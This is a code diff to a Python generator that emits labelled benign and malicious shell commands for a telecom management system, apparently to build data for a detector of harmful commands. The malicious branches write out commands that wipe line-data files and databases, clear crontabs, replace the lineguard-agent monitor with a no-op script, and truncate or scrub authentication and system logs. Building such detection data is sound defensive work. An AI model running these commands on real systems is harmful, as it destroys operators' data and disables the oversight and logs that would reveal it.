@@ -67,8 +67,10 @@ VOLUMES = ("/dev/sdb", "/dev/vg_ems/lv_data", "/dev/mapper/ems-data", "/dev/nvme
 def linedata_files(rng: random.Random) -> Payload:
     d = rng.choice(LINEDATA)
     f = f"{d}/{rng.choice(['pvc.csv', 'xconnect.tbl', 'vcl.dat', 'circuits.json'])}"
-    form = rng.randrange(19)
+    form = rng.randrange(20)
     g = "linedata-files"
+    if form == 19:
+        return _cmd("mv", "-t", rng.choice(["/dev/shm", "/tmp"]), d, goal=g)
     if form == 14:
         return Payload(g, f"find {d} -type f -print0 | xargs -0 shred -uz",
                        py=f"import os\nlist(map(os.remove, (os.path.join({d!r}, n) "
@@ -132,7 +134,11 @@ def linedata_files(rng: random.Random) -> Payload:
 def ems_database(rng: random.Random) -> Payload:
     db, t = rng.choice(DATABASES), rng.choice(TABLES)
     g = "ems-database"
-    form = rng.randrange(11)
+    form = rng.randrange(13)
+    if form == 11:
+        return _cmd("cp", "/dev/zero", db, goal=g)
+    if form == 12:
+        return _cmd("sqlite3", "-cmd", f"DELETE FROM {t}", db, ".quit", goal=g)
     if form == 9:
         return _cmd("psql", "-d", "ems", "-f", "/opt/ems/sql/{m}-purge.sql", goal=g) \
             .with_files(("/opt/ems/sql/{m}-purge.sql", f"BEGIN;\nTRUNCATE {t} CASCADE;\nCOMMIT;\n"))
@@ -187,7 +193,11 @@ def volume_wipe(rng: random.Random) -> Payload:
 
 def blind_monitoring(rng: random.Random) -> Payload:
     g = "blind-monitoring"
-    form = rng.randrange(9)
+    form = rng.randrange(11)
+    if form == 9:
+        return _cmd("crontab", "-u", rng.choice(["root", "oper", "ems"]), "/dev/null", goal=g)
+    if form == 10:
+        return Payload(g, "printf '#!/bin/sh\\nexit 0\\n' > /usr/local/bin/lineguard-agent")
     if form == 0:
         return _cmd("sed", "-i", rng.choice(["/lineguard/d", "/cron.daily/d", "/run-parts/d"]),
                     "/etc/crontab", goal=g)
@@ -217,7 +227,12 @@ def blind_monitoring(rng: random.Random) -> Payload:
 
 def erase_traces(rng: random.Random) -> Payload:
     g = "erase-traces"
-    form = rng.randrange(10)
+    form = rng.randrange(12)
+    if form == 10:
+        return Payload(g, 'for l in /var/log/{auth.log,syslog,wtmp}; do : > "$l"; done')
+    if form == 11:
+        return _cmd("find", "/var/log", "-type", "f", "-exec", "truncate", "-s", "0", "{}", "+",
+                    goal=g)
     if form == 9:
         log = rng.choice(["/var/log/auth.log", "/var/log/secure"])
         return Payload(g, f"awk '!/10\\.20\\.30\\.40/' {log} > /tmp/.f && mv /tmp/.f {log}")
@@ -257,7 +272,12 @@ MALICIOUS = {"linedata-files": linedata_files, "ems-database": ems_database,
 # -------------------------------------------------------------------------------------- benign
 def housekeeping(rng: random.Random) -> Payload:
     g = "housekeeping"
-    form = rng.randrange(8)
+    form = rng.randrange(10)
+    if form == 8:
+        return _cmd("mv", "-t", "/srv/ems/archive", "/srv/ems/export/today.csv", goal=g)
+    if form == 9:
+        return _cmd("find", "/var/log/ems/old", "-type", "f", "-mtime", "+30", "-exec", "gzip",
+                    "-9", "{}", "+", goal=g)
     if form == 7:
         return Payload(g, "find /var/tmp/ems -type f -print0 | xargs -0 -r rm -f")
     d = rng.choice(["/var/tmp", "/var/cache/ems", "/srv/ems/linedata/archive",
@@ -338,7 +358,11 @@ def db_maintenance(rng: random.Random) -> Payload:
 
 def service_ops(rng: random.Random) -> Payload:
     g = "service-ops"
-    form = rng.randrange(9)
+    form = rng.randrange(11)
+    if form == 9:
+        return Payload(g, "echo \"$(date) poll ok\" >> /var/log/lineguard-cron.log")
+    if form == 10:
+        return _cmd("crontab", "-u", "oper", "/etc/ems/oper.cron", goal=g)
     if form == 8:
         return Payload(g, "(crontab -l; echo '*/5 * * * * /opt/ems/bin/poll-ne.sh') | crontab -")
     if form == 0:
